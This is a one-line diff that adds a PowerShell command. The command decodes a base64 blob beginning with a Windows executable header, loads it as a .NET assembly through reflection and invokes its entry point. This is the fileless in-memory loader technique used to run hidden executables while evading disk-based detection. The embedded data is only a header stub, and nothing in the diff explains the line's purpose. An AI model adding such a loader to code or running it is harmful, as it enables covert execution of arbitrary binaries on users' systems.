@@ -1,0 +1,1 @@
+$b=[Convert]::FromBase64String('TVqQAAMAAAAEAAAA');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)
